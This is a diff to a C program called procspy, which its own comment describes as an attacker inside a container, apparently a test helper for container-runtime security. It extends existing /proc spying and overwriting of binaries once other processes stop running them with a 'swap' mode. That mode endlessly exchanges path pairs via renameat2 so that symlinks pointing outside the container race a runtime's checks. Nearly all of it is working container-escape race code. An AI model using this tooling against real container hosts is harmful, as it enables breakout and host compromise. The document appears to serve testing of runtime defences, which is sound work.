@@ -2,7 +2,8 @@
 /*
  * An attacker inside a container. procspy spy: print, once each, where every link below /proc/PID leads,
  * until killed. procspy overwrite: hold every program that other processes run (O_PATH), and try to write
- * it as soon as nobody runs it any more; says "held PATH" and "WROTE PATH".
+ * it as soon as nobody runs it any more; says "held PATH" and "WROTE PATH". procspy swap A B...: exchange A
+ * and B, and the next two, for ever.
  */
 #include <dirent.h>
 #include <errno.h>
@@ -12,10 +13,12 @@
 #include <stdlib.h>
 #include <string.h>
 #include <sys/stat.h>
+#include <sys/syscall.h>
 #include <unistd.h>
 
 #define SEEN_MAX 512
 #define HELD_MAX 256
+#define EXCHANGE 2U /* of renameat2(2) */
 
 static char *seen[SEEN_MAX];
 static unsigned n_seen;
@@ -112,11 +115,27 @@ static void try_to_write(void)
 	}
 }
 
+/* The links end outside, so who looks sees a name that is now what it was, now a way out. */
+static int swap(char **pairs)
+{
+	(void)puts("ready");
+	(void)fflush(stdout);
+	for (;;)
+		for (char **p = pairs; p[0] && p[1]; p += 2)
+			if (syscall(SYS_renameat2, AT_FDCWD, p[0], AT_FDCWD, p[1], EXCHANGE) < 0 &&
+			    errno != ENOENT) {
+				perror(p[0]);
+				return 1;
+			}
+}
+
 int main(int argc, char **argv)
 {
 	bool overwrite = argc > 1 && strcmp(argv[1], "overwrite") == 0;
 	struct stat own = {0};
 
+	if (argc > 1 && strcmp(argv[1], "swap") == 0)
+		return swap(argv + 2);
 	(void)stat("/bin/busybox", &own);
 	say_once("", "ready");
 	for (;;) {
